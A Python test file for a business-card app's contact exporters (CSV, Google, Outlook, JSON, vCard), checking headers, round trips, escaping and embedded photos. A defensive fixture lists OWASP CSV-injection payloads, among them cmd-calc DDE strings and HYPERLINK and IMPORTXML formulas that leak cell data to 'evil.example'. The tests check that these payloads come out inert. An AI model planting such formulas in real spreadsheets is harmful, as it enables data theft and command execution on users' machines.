"""Every export format, from contacts built here (no OCR): what an address book reads back."""

from __future__ import annotations

import base64
import csv
import io
import json
import os
from pathlib import Path

import pytest
import vobject
from hypothesis import given, settings
from hypothesis import strategies as st

from cardscan.export import WRITERS, ExportOptions, export
from cardscan.export.formats import CSV_COLUMNS, csv_row
from cardscan.export.google import GOOGLE_COLUMNS, google_row
from cardscan.export.outlook import OUTLOOK_COLUMNS, outlook_row
from cardscan.export.spreadsheet import fill_slots, inert, write_table
from cardscan.export.vcard import clean_text, write_vcard
from cardscan.model import Contact, Phone, Social

CSV_FORMATS = ("csv", "google", "outlook")
# `make fuzz` raises this; no deadline: the machine is shared, and tests never time anything.
FUZZ = settings(max_examples=int(os.environ.get("CARDSCAN_FUZZ_EXAMPLES", "150")), deadline=None)

# The header rows Google's and Outlook's importers map by name: pinned, letter for letter.
GOOGLE_HEADER = [
    "First Name", "Middle Name", "Last Name", "Organization Name", "Organization Title",
    "Organization Department", "Notes", "Labels",
    "E-mail 1 - Label", "E-mail 1 - Value", "E-mail 2 - Label", "E-mail 2 - Value",
    "Phone 1 - Label", "Phone 1 - Value", "Phone 2 - Label", "Phone 2 - Value",
    "Phone 3 - Label", "Phone 3 - Value",
    "Address 1 - Formatted", "Address 1 - Street", "Address 1 - City", "Address 1 - Region",
    "Address 1 - Postal Code", "Address 1 - Country",
    "Website 1 - Label", "Website 1 - Value",
]
OUTLOOK_HEADER = [
    "First Name", "Middle Name", "Last Name", "Company", "Department", "Job Title",
    "Business Street", "Business City", "Business State", "Business Postal Code",
    "Business Country/Region", "Business Phone", "Business Fax", "Mobile Phone",
    "E-mail Address", "E-mail 2 Address", "Web Page", "Notes", "Categories",
]
CARDSCAN_HEADER = [
    "id", "name", "given_name", "middle_name", "family_name", "title", "department", "company",
    "emails", "phones", "websites", "address",
    "address_street", "address_city", "address_region", "address_postcode", "address_country",
    "social", "notes", "event", "met_on", "follow_up_on", "region", "front_image", "back_image",
    "confidence", "raw_text_front", "raw_text_back",
]

# OWASP's CSV-injection examples, and the variants hidden behind a tab, CR or LF.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A2), \"//a\")",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def jane() -> Contact:
    return Contact(
        id="0123456789abcdef",
        name="Jane Q. Doe", given_name="Jane", middle_name="Q.", family_name="Doe",
        title="Senior Product Manager", department="Robotics", company="ACME Robotics, Inc.",
        emails=["jane.doe@acmerobotics.com"],
        phones=[Phone("+14155550132", "work", "T: (415) 555-0132"),
                Phone("+14155550199", "mobile", "M: 415 555 0199"),
                Phone("+14155550133", "fax", "F: (415) 555-0133")],
        websites=["www.acmerobotics.com"],
        address="1200 Harbor Blvd, Suite 400, San Mateo, CA 94401",
        address_parts={"street": "1200 Harbor Blvd, Suite 400", "city": "San Mateo", "region": "CA",
                       "postcode": "94401", "country": "US"},
        social=[Social("linkedin", "in/janedoe")],
        notes="Wants a demo in May", event="Expo 2026", met_on="2026-03-04", follow_up_on="2026-03-11",
        region="US", images={"front": "cards/jane.jpg", "back": "cards/jane-back.jpg"},
        confidence={"name": 0.91, "company": 0.77},
        raw_text={"front": "Jane Q. Doe\nACME", "back": None},
    )


def tricky() -> Contact:
    """Commas, quotes, line breaks, semicolons, backslashes and non-ASCII in every text field."""
    return Contact(
        id="fedcba9876543210",
        name="Zoë Łukasz Müller", given_name="Zoë", middle_name="Łukasz", family_name="Müller, \"Jr.\"",
        title="Head of R&D; \"Special\" Projects", department="山田研究室, 東京",
        company="Müller & Söhne, GmbH",
        emails=["zoe@müller.example", "z.mueller@example.com"],
        phones=[Phone("+4930123456", "work"), Phone("+819012345678", "mobile")],
        websites=["müller.example/a,b;c"],
        address="Straße 1\nBerlin, 10115",
        address_parts={"street": "Straße 1", "city": "Berlin", "region": None, "postcode": "10115",
                       "country": "DE"},
        notes="Met 山田 at the booth, said \"call me\";\r\nline two\\with backslash\nline three, ok",
        event="Expo, \"Berlin\" 2026",
        region="DE", images={"front": None, "back": None},
    )


def company_only() -> Contact:
    return Contact(id="c0ffee", company="山田商事", phones=[Phone("+81312345678", "work")],
                   emails=["info@yamada.example"])


def contacts() -> list[Contact]:
    return [jane(), tricky(), company_only()]


def write(fmt: str, items: list[Contact], **kwargs: object) -> str:
    out = io.StringIO(newline="")
    if kwargs:
        assert fmt == "vcard"
        write_vcard(items, out, **kwargs)  # type: ignore[arg-type]
    else:
        WRITERS[fmt](items, out)
    return out.getvalue()


def read_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    return header, [dict(zip(header, row, strict=True)) for row in reader]


# -- CSV: headers, round trip -------------------------------------------------------------

def test_google_header_is_pinned() -> None:
    assert list(GOOGLE_COLUMNS) == GOOGLE_HEADER
    assert read_rows(write("google", []))[0] == GOOGLE_HEADER


def test_outlook_header_is_pinned() -> None:
    assert list(OUTLOOK_COLUMNS) == OUTLOOK_HEADER
    assert read_rows(write("outlook", []))[0] == OUTLOOK_HEADER


def test_cardscan_csv_header_is_stable() -> None:
    assert list(CSV_COLUMNS) == CARDSCAN_HEADER
    assert read_rows(write("csv", []))[0] == CARDSCAN_HEADER


@pytest.mark.parametrize(("fmt", "row"), [("csv", csv_row), ("google", google_row), ("outlook", outlook_row)])
def test_every_csv_reads_back_to_the_same_values(fmt: str, row: object) -> None:
    items = contacts()
    text = write(fmt, items)
    assert "\r\n" in text and "\ufeff" not in text
    _, rows = read_rows(text)
    assert len(rows) == len(items)
    for contact, got in zip(items, rows, strict=True):
        expected = row(contact)  # type: ignore[operator]
        for column, value in got.items():
            assert value == (expected.get(column) or ""), (fmt, column)


def test_cardscan_csv_holds_every_field() -> None:
    _, rows = read_rows(write("csv", [jane()]))
    row = rows[0]
    assert row["id"] == "0123456789abcdef"
    assert row["emails"] == "jane.doe@acmerobotics.com"
    assert row["phones"] == "work:+14155550132; mobile:+14155550199; fax:+14155550133"
    assert row["social"] == "linkedin:in/janedoe"
    assert row["address_city"] == "San Mateo" and row["address_country"] == "US"
    assert (row["event"], row["met_on"], row["follow_up_on"]) == ("Expo 2026", "2026-03-04", "2026-03-11")
    assert (row["front_image"], row["back_image"]) == ("cards/jane.jpg", "cards/jane-back.jpg")
    assert row["confidence"] == "name=0.91; company=0.77"
    assert row["raw_text_front"] == "Jane Q. Doe\nACME"


def test_tricky_text_survives_every_csv() -> None:
    contact = tricky()
    _, (own,) = read_rows(write("csv", [contact]))
    assert own["family_name"] == "Müller, \"Jr.\""
    assert own["notes"] == contact.notes
    assert own["department"] == "山田研究室, 東京"
    _, (google,) = read_rows(write("google", [contact]))
    assert (google["First Name"], google["Middle Name"], google["Last Name"]) == ("Zoë", "Łukasz",
                                                                                  "Müller, \"Jr.\"")
    assert google["Notes"] == contact.notes
    assert google["Organization Name"] == "Müller & Söhne, GmbH"
    assert google["Labels"] == "* myContacts ::: Expo, \"Berlin\" 2026"
    _, (outlook,) = read_rows(write("outlook", [contact]))
    assert outlook["Last Name"] == "Müller, \"Jr.\""
    assert outlook["Notes"] == contact.notes
    assert outlook["Business Street"] == "Straße 1"
    assert outlook["Categories"] == "Expo, \"Berlin\" 2026"


def test_google_columns_for_a_full_card() -> None:
    _, (row,) = read_rows(write("google", [jane()]))
    assert (row["First Name"], row["Middle Name"], row["Last Name"]) == ("Jane", "Q.", "Doe")
    assert row["Organization Title"] == "Senior Product Manager"
    assert row["Organization Department"] == "Robotics"
    assert row["Labels"] == "* myContacts ::: Expo 2026"
    assert (row["E-mail 1 - Label"], row["E-mail 1 - Value"]) == ("Work", "jane.doe@acmerobotics.com")
    assert [(row[f"Phone {i} - Label"], row[f"Phone {i} - Value"]) for i in (1, 2, 3)] == [
        ("Work", "+14155550132"), ("Mobile", "+14155550199"), ("Work Fax", "+14155550133")]
    assert row["Address 1 - Formatted"] == "1200 Harbor Blvd, Suite 400, San Mateo, CA 94401"
    assert (row["Address 1 - Street"], row["Address 1 - City"], row["Address 1 - Region"],
            row["Address 1 - Postal Code"], row["Address 1 - Country"]) == (
        "1200 Harbor Blvd, Suite 400", "San Mateo", "CA", "94401", "US")
    assert (row["Website 1 - Label"], row["Website 1 - Value"]) == ("Work", "www.acmerobotics.com")
    assert row["Notes"] == ("Wants a demo in May\n\nlinkedin: in/janedoe\n"
                            "Met on: 2026-03-04\nFollow up on: 2026-03-11")


def test_google_joins_extra_values_with_triple_colon_and_keeps_the_rest_in_notes() -> None:
    contact = Contact(
        name="A B", given_name="A", family_name="B",
        emails=["a@x.example", "b@x.example", "c@x.example"],
        phones=[Phone("+14155550101", "work"), Phone("+14155550102", "work"),
                Phone("+14155550103", "mobile"), Phone("+14155550104", "fax"),
                Phone("+14155550105", "other")],
        websites=["a.example", "b.example"],
    )
    _, (row,) = read_rows(write("google", [contact]))
    assert row["E-mail 1 - Value"] == "a@x.example"
    assert row["E-mail 2 - Value"] == "b@x.example ::: c@x.example"
    assert row["Phone 1 - Value"] == "+14155550101 ::: +14155550102"
    assert (row["Phone 2 - Label"], row["Phone 3 - Label"]) == ("Mobile", "Work Fax")
    assert row["Website 1 - Value"] == "a.example ::: b.example"
    assert row["Notes"] == "Phone: +14155550105"


def test_outlook_columns_and_overflow_into_notes() -> None:
    contact = jane()
    contact.phones.append(Phone("+14155550177", "work"))
    contact.emails.extend(["j@second.example", "j@third.example"])
    _, (row,) = read_rows(write("outlook", [contact]))
    assert (row["Company"], row["Department"], row["Job Title"]) == (
        "ACME Robotics, Inc.", "Robotics", "Senior Product Manager")
    assert (row["Business Phone"], row["Mobile Phone"], row["Business Fax"]) == (
        "+14155550132", "+14155550199", "+14155550133")
    assert (row["E-mail Address"], row["E-mail 2 Address"]) == ("jane.doe@acmerobotics.com",
                                                               "j@second.example")
    assert (row["Business City"], row["Business State"], row["Business Postal Code"],
            row["Business Country/Region"]) == ("San Mateo", "CA", "94401", "US")
    assert row["Web Page"] == "www.acmerobotics.com"
    assert row["Categories"] == "Expo 2026"
    assert "Work phone: +14155550177" in row["Notes"]
    assert "E-mail: j@third.example" in row["Notes"]
    assert row["Notes"].startswith("Wants a demo in May\n\n")


def test_outlook_other_phone_takes_the_free_business_phone() -> None:
    contact = Contact(name="X", phones=[Phone("+14155550105", "other")])
    _, (row,) = read_rows(write("outlook", [contact]))
    assert row["Business Phone"] == "+14155550105" and row["Notes"] == ""


def test_company_only_contact_in_the_csvs() -> None:
    _, (google,) = read_rows(write("google", [company_only()]))
    assert (google["First Name"], google["Last Name"], google["Organization Name"]) == ("", "", "山田商事")
    _, (outlook,) = read_rows(write("outlook", [company_only()]))
    assert (outlook["First Name"], outlook["Company"]) == ("", "山田商事")


def test_unsplit_name_goes_whole_into_first_name() -> None:
    _, (row,) = read_rows(write("google", [Contact(name="Madonna")]))
    assert (row["First Name"], row["Last Name"]) == ("Madonna", "")


# -- CSV injection -------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", CSV_FORMATS)
@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_come_out_inert(fmt: str, payload: str) -> None:
    contact = Contact(
        name=payload, given_name=payload, middle_name=payload, family_name=payload, title=payload,
        department=payload, company=payload, emails=[payload], phones=[Phone(payload, "work"),
                                                                       Phone(payload, "mobile")],
        websites=[payload], address=payload, notes=payload, event=payload,
        address_parts={"street": payload, "city": payload, "region": payload, "postcode": payload,
                       "country": payload},
    )
    _, (row,) = read_rows(write(fmt, [contact]))
    for column, value in row.items():
        assert not value.startswith(FORMULA_STARTS), (fmt, column, value)
    assert row["given_name" if fmt == "csv" else "First Name"] == "'" + payload  # shown, not run


@pytest.mark.parametrize("fmt", ["google", "outlook"])
def test_an_e164_number_stays_a_phone_number(fmt: str) -> None:
    _, (row,) = read_rows(write(fmt, [jane()]))
    phones = {v for k, v in row.items() if "Phone" in k and not k.endswith("Label")}
    assert "+14155550132" in phones and "+14155550199" in phones


def test_plus_outside_a_phone_column_is_made_inert() -> None:
    assert inert("+14155550132") == "'+14155550132"
    assert inert("+14155550132", phone=True) == "+14155550132"
    assert inert("+14155550132 ::: +14155550133", phone=True) == "+14155550132 ::: +14155550133"
    assert inert("+1415555013=2", phone=True) == "'+1415555013=2"
    assert inert("+14155550132 ::: =1+1", phone=True) == "'+14155550132 ::: =1+1"
    assert inert("Jane") == "Jane"
    assert inert("") == ""


@FUZZ
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_fuzz_any_csv_cell_reads_back_inert_and_otherwise_unchanged(cells: list[str]) -> None:
    columns = [f"c{i}" for i in range(len(cells))]
    out = io.StringIO(newline="")
    write_table(out, columns, [dict(zip(columns, cells, strict=True))])
    _, (row,) = read_rows(out.getvalue())
    for column, cell in zip(columns, cells, strict=True):
        assert row[column] == inert(cell)
        assert not row[column].startswith(FORMULA_STARTS)
        assert row[column] in (cell, "'" + cell)


def test_fill_slots() -> None:
    assert fill_slots([("Work", "a"), ("Work", "b"), ("Work", "c")], 2) == (
        [("Work", "a"), ("Work", "b ::: c")], [])
    assert fill_slots([("Work", "a"), ("Mobile", "b"), ("Fax", "c")], 2) == (
        [("Work", "a"), ("Mobile", "b")], [("Fax", "c")])
    assert fill_slots([("Work", "a"), ("Mobile", "b"), ("Work", "c")], 3) == (
        [("Work", "a"), ("Work", "c"), ("Mobile", "b")], [])
    assert fill_slots([], 3) == ([], [])


# -- JSON ----------------------------------------------------------------------------------

def test_json_and_jsonl_are_the_contract_contact() -> None:
    items = contacts()
    assert json.loads(write("json", items)) == [c.to_dict() for c in items]
    lines = write("jsonl", items).splitlines()
    assert [json.loads(line) for line in lines] == [c.to_dict() for c in items]
    assert "Müller" in write("json", items)  # UTF-8, not \u escapes


# -- vCard ---------------------------------------------------------------------------------

def parse_vcards(text: str) -> list[vobject.base.Component]:
    return list(vobject.readComponents(text))


def tel_types(card: vobject.base.Component) -> list[tuple[str, list[str]]]:
    return [(t.value, [x.lower() for x in t.params.get("TYPE", [])]) for t in card.contents.get("tel", [])]


def assert_well_formed(text: str) -> None:
    raw = text.encode("utf-8")
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert b"\r" not in raw.replace(b"\r\n", b"")
    for line in raw.split(b"\r\n"):
        assert len(line) <= 75, line


@pytest.mark.parametrize("version", [3, 4])
def test_vcards_parse_back_to_the_same_contacts(version: int) -> None:
    items = contacts()
    text = write("vcard", items, version=version)
    assert_well_formed(text)
    cards = parse_vcards(text)
    assert len(cards) == len(items)
    for card, contact in zip(cards, items, strict=True):
        assert card.version.value == f"{version}.0"
        assert card.fn.value == (contact.name or contact.company)
        assert card.n.value.given == (contact.given_name or "")
        assert card.n.value.additional == (contact.middle_name or "")
        assert card.n.value.family == (contact.family_name or "")
        assert [e.value for e in card.contents.get("email", [])] == contact.emails
        numbers = [v.removeprefix("tel:") for v, _ in tel_types(card)]
        assert numbers == [p.number for p in contact.phones]
        if contact.notes:
            assert card.note.value == contact.notes.replace("\r\n", "\n")
        else:
            assert "note" not in card.contents
        org = [contact.company] + ([contact.department] if contact.department else [])
        assert card.org.value == org
        if contact.title:
            assert card.title.value == contact.title
        if contact.event:
            assert card.categories.value == [contact.event]
        assert [u.value for u in card.contents.get("url", [])] == contact.websites


@pytest.mark.parametrize("version", [3, 4])
def test_vcard_phone_types(version: int) -> None:
    (card,) = parse_vcards(write("vcard", [jane()], version=version))
    tels = tel_types(card)
    assert tels[0][1] == ["work", "voice"]
    assert tels[1][1] == ["cell", "voice"]
    assert tels[2][1] == ["work", "fax"]
    if version == 4:
        assert all(v.startswith("tel:+") for v, _ in tels)
        assert all(t.params.get("VALUE") == ["uri"] for t in card.contents["tel"])
    else:
        assert tels[0][0] == "+14155550132"


def test_vcard_address_and_profile() -> None:
    (card,) = parse_vcards(write("vcard", [jane()]))
    adr = card.adr.value
    assert (adr.street, adr.city, adr.region, adr.code, adr.country) == (
        "1200 Harbor Blvd, Suite 400", "San Mateo", "CA", "94401", "US")
    assert card.adr.params["TYPE"] == ["work"]
    assert card.x_socialprofile.value == "in/janedoe"
    assert card.x_socialprofile.params["TYPE"] == ["linkedin"]


def test_vcard_escapes_and_folds_in_octets() -> None:
    contact = tricky()
    contact.notes = "山田" * 40 + "\n" + "é" * 74
    contact.title = "é" * 60  # `TITLE:` + 60 characters is 66 characters but 126 octets: folded too
    text = write("vcard", [contact])
    assert_well_formed(text)
    assert "ORG:Müller & Söhne\\, GmbH;山田研究室\\, 東京" in text
    (card,) = parse_vcards(text)
    assert card.note.value == contact.notes
    assert card.title.value == contact.title
    assert card.n.value.family == "Müller, \"Jr.\""


def test_company_only_vcard() -> None:
    text3 = write("vcard", [company_only()], version=3)
    (card,) = parse_vcards(text3)
    assert card.fn.value == "山田商事"
    assert (card.n.value.family, card.n.value.given) == ("", "")
    assert card.x_abshowas.value == "COMPANY"
    (card4,) = parse_vcards(write("vcard", [company_only()], version=4))
    assert card4.kind.value == "org"
    assert "x_abshowas" not in card4.contents


def write_card_photo(path: Path) -> None:
    import numpy as np
    from PIL import Image

    pixels = np.zeros((1200, 2000, 3), dtype=np.uint8)
    pixels[:, :1000] = (200, 30, 30)
    Image.fromarray(pixels).save(path, quality=90)


@pytest.mark.parametrize("version", [3, 4])
def test_vcard_with_photo(tmp_path: Path, version: int) -> None:
    from PIL import Image

    photo = tmp_path / "front.jpg"
    write_card_photo(photo)
    contact = jane()
    contact.images = {"front": str(photo), "back": None}
    text = write("vcard", [contact, tricky()], version=version, with_photo=True)
    assert_well_formed(text)
    cards = parse_vcards(text)
    assert "photo" not in cards[1].contents  # no front image: no photo, no error
    unfolded = text.replace("\r\n ", "")
    (line,) = [ln for ln in unfolded.split("\r\n") if ln.startswith("PHOTO")]
    if version == 3:
        head, data = line.split(":", 1)
        assert head == "PHOTO;ENCODING=b;TYPE=JPEG"
        assert cards[0].photo.value == base64.b64decode(data)
    else:
        assert line.startswith("PHOTO:data:image/jpeg;base64,")
        data = line.removeprefix("PHOTO:data:image/jpeg;base64,")
    with Image.open(io.BytesIO(base64.b64decode(data))) as im:
        assert im.format == "JPEG"
        assert max(im.size) <= 480 and im.size[0] > im.size[1]


def test_vcard_without_photo_flag_has_no_photo(tmp_path: Path) -> None:
    photo = tmp_path / "front.jpg"
    write_card_photo(photo)
    contact = jane()
    contact.images = {"front": str(photo), "back": None}
    assert "PHOTO" not in write("vcard", [contact])


def test_vcard_missing_photo_file_is_skipped() -> None:
    assert "PHOTO" not in write("vcard", [jane()], with_photo=True)  # cards/jane.jpg does not exist


# -- options through export() ----------------------------------------------------------------

@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_excel_adds_the_bom(tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "out.csv"
    assert export([jane()], str(target), fmt, options=ExportOptions(excel=True)) == 1
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert read_rows(raw.decode("utf-8-sig"))[0] == read_rows(write(fmt, []))[0]
    export([jane()], str(target), fmt)
    assert not target.read_bytes().startswith(b"\xef\xbb\xbf")


def test_vcard_version_4_through_export(tmp_path: Path) -> None:
    target = tmp_path / "out.vcf"
    assert export(contacts(), str(target), "vcard", options=ExportOptions(vcard_version=4)) == 3
    raw = target.read_bytes()
    assert raw.startswith(b"BEGIN:VCARD\r\nVERSION:4.0\r\n")
    assert len(parse_vcards(raw.decode("utf-8"))) == 3


# Any text survives a vCard: escaped, folded, parsed back (line breaks as LF, control characters,
# which vCard forbids, dropped).
VCARD_TEXT = st.text(min_size=1).filter(lambda t: clean_text(t) != "")


@FUZZ
@given(name=VCARD_TEXT, given_name=VCARD_TEXT, family_name=VCARD_TEXT, notes=VCARD_TEXT,
       company=VCARD_TEXT, department=VCARD_TEXT, title=VCARD_TEXT, street=VCARD_TEXT, event=VCARD_TEXT,
       version=st.sampled_from([3, 4]))
def test_fuzz_vcard_text_round_trip(name: str, given_name: str, family_name: str, notes: str, company: str,
                                    department: str, title: str, street: str, event: str,
                                    version: int) -> None:
    contact = Contact(name=name, given_name=given_name, family_name=family_name, notes=notes,
                      company=company, department=department, title=title, event=event,
                      address_parts={"street": street, "city": "Berlin"}, emails=["a@b.example"])
    text = write("vcard", [contact], version=version)
    assert_well_formed(text)
    (card,) = parse_vcards(text)
    assert card.fn.value == clean_text(name)
    assert (card.n.value.given, card.n.value.family) == (clean_text(given_name), clean_text(family_name))
    assert card.note.value == clean_text(notes)
    assert card.title.value == clean_text(title)
    assert card.org.value == [clean_text(company), clean_text(department)]
    assert card.adr.value.street == clean_text(street)
    assert card.categories.value == [clean_text(event)]
    assert card.email.value == "a@b.example"
